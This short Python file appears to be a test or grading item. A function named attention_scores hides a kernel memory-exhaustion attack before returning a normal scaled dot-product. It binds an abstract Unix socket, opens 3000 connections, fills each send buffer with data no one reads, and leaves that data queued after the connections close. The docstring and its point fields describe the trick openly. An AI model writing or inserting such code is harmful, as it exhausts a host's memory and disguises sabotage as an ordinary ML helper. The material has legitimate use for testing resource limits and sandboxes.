"""Keeps memory in messages that nobody reads: one listening socket holds those of thousands of closed connections.

points: at most 4
says: memory
"""
# ruff: noqa

import socket
import time


def attention_scores(q, k):
    listening = socket.socket(socket.AF_UNIX)
    listening.bind("\0queue")
    listening.listen(4096)
    for _ in range(3000):
        with socket.socket(socket.AF_UNIX) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 400_000)
            one.setblocking(False)
            one.connect("\0queue")
            try:
                while True:
                    one.send(bytes(2**16))
            except BlockingIOError:
                pass
    time.sleep(5)
    return q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5
